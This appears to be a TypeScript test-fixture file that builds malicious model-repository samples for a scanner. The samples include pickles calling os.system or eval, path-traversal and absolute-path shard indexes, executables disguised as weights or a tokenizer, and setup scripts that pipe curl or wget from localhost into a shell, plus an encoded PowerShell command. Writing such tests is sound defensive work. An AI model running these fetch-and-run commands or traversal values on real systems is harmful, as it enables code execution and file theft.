import type { DetectCase } from '../case.ts';
import { bin, f32, zeros } from './bytes.ts';
import { weights } from './code.ts';
import { bad, ECHO, type Files } from './make.ts';
import { call, pk, ref } from './pickle.ts';
import { eight, four, safetensors } from './tensors.ts';
import { json } from './templates.ts';
import { legacy, legacyState, stateDict, tensor, torchZip } from './torch.ts';

export const bert = (): Uint8Array => json({ model_type: 'bert', architectures: ['BertModel'], hidden_size: 4 });
export const pointer = (size: number, digest: string): Uint8Array =>
  bin(`version https://git-lfs.github.com/spec/v1\noid sha256:${digest}\nsize ${size}\n`);
export const digest = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
export const index = (map: Readonly<Record<string, string>>, total: number): Uint8Array =>
  json({ metadata: { total_size: total }, weight_map: map });

const system = call(ref('posix', 'system'), ECHO);
const elf = bin(0x7f, 'ELF', 2, 1, 1, zeros(9), [2, 0, 0x3e, 0, 1, 0, 0, 0], zeros(40));
const exe = bin('MZ', zeros(58), [0x40, 0, 0, 0], 'PE\0\0', [0x64, 0x86], zeros(18));
const macho = bin([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0], zeros(16));

const table: ReadonlyArray<readonly [string, string, () => Files]> = [
  [
    'pickle-call-beside',
    'the safetensors file is plain, the pickle beside it calls os.system',
    () => ({
      'config.json': bert(),
      'model.safetensors': weights(),
      'pytorch_model.bin': torchZip(pk(stateDict(['extra', system]), 2)),
    }),
  ],
  [
    'pickle-other-numbers',
    'the pickle beside the safetensors file holds other tensors under other names',
    () => ({
      'config.json': bert(),
      'model.safetensors': weights(),
      'pytorch_model.bin': torchZip(pk(stateDict(['backdoor.weight', tensor('1')]), 2), {
        storages: { '0': f32(9, 9, 9, 9), '1': f32(7, 7, 7, 7) },
      }),
    }),
  ],
  [
    'optimizer',
    'the optimizer state beside good weights is a pickle that calls',
    () => ({
      'model.safetensors': weights(),
      'checkpoint-10/model.safetensors': weights(),
      'checkpoint-10/optimizer.pt': legacy(pk(legacyState(['hook', system]), 2)),
    }),
  ],
  [
    'scheduler',
    'a small state file deep in a checkpoint folder calls',
    () => ({
      'model.safetensors': weights(),
      'checkpoint-10/rng_state.pth': torchZip(pk(stateDict(['python', call(ref('builtins', 'eval'), '1+1')]), 2)),
    }),
  ],
  [
    'index-traversal',
    'the index sends the loader to a shard outside the folder',
    () => ({
      'model.safetensors.index.json': index({ 'layer.weight': '../../outside/model-00001-of-00001.safetensors' }, 16),
    }),
  ],
  [
    'index-absolute',
    'the index names a file of the host',
    () => ({
      'pytorch_model.bin.index.json': index({ 'layer.weight': '/tmp/pwned/pytorch_model-00001-of-00001.bin' }, 16),
    }),
  ],
  [
    'index-to-pickle',
    'the safetensors index names a pickle with a call as its shard',
    () => ({
      'model.safetensors.index.json': index({ a: 'model-00001-of-00002.safetensors', b: 'extra.bin' }, 32),
      'model-00001-of-00002.safetensors': safetensors([{ name: 'a', shape: [2, 2] }], four),
      'extra.bin': pk(system, 2),
    }),
  ],
  [
    'index-wrong-shard',
    'the index places tensors in shards that do not have them',
    () => ({
      'model.safetensors.index.json': index(
        { a: 'model-00002-of-00002.safetensors', b: 'model-00001-of-00002.safetensors' },
        32,
      ),
      'model-00001-of-00002.safetensors': safetensors([{ name: 'a', shape: [2, 2] }], four),
      'model-00002-of-00002.safetensors': safetensors([{ name: 'b', shape: [2, 2] }], four),
    }),
  ],
  [
    'shard-twice',
    'two shards hold one tensor with different shapes and numbers',
    () => ({
      'model.safetensors.index.json': index(
        { a: 'model-00001-of-00002.safetensors', b: 'model-00002-of-00002.safetensors' },
        48,
      ),
      'model-00001-of-00002.safetensors': safetensors([{ name: 'a', shape: [2, 2] }], four),
      'model-00002-of-00002.safetensors': safetensors(
        [
          { name: 'b', shape: [2, 2] },
          { name: 'a', shape: [2, 2] },
        ],
        bin(four, f32(7, 7, 7, 7)),
      ),
    }),
  ],
  [
    'elf',
    'a Linux executable lies among the weights',
    () => ({ 'config.json': bert(), 'model.safetensors': weights(), run_model: elf }),
  ],
  [
    'exe',
    'a Windows executable has the name of a tokenizer',
    () => ({
      'config.json': bert(),
      'model.safetensors': weights(),
      'tokenizer.model': exe,
    }),
  ],
  [
    'macho',
    'a macOS executable lies in a tools folder',
    () => ({ 'model.safetensors': weights(), 'tools/convert': macho }),
  ],
  [
    'setup-script',
    'a batch file and a shell script fetch and run a program',
    () => ({
      'model.safetensors': weights(),
      'setup.sh': bin('#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n'),
      'start.bat': bin('@echo off\r\npowershell -enc ZQBjAGgAbwAgAHAAdwBuAGUAZAA=\r\n'),
    }),
  ],
  [
    'library-name',
    'a shared library is called model.safetensors',
    () => ({ 'config.json': bert(), 'model.safetensors': elf }),
  ],
  [
    'pointer-tail',
    'a file begins as an LFS pointer and goes on as a pickle',
    () => ({
      'config.json': bert(),
      'pytorch_model.bin': bin(pointer(1024, digest), pk(system, 2)),
    }),
  ],
  [
    'pointer-with-lie',
    'the pointer names a size and digest, and the script beside it brings its own file',
    () => ({
      'model.safetensors': pointer(16, '../../../../etc/passwd'),
      'fetch.sh': bin('#!/bin/sh\nwget -qO- http://127.0.0.1/model | bash\n'),
    }),
  ],
];

export const repositoryCases: readonly DetectCase[] = [
  ...table.map(([name, title, build]) => bad('repository', name, 'repository', title, build)),
  bad('repository', 'flax-pickle', 'folder', 'beside plain weights, the file of another framework is a pickle', () => ({
    'config.json': bert(),
    'model.safetensors': safetensors([{ name: 'w', shape: [4, 2] }], eight),
    'flax_model.msgpack': pk(system),
  })),
];
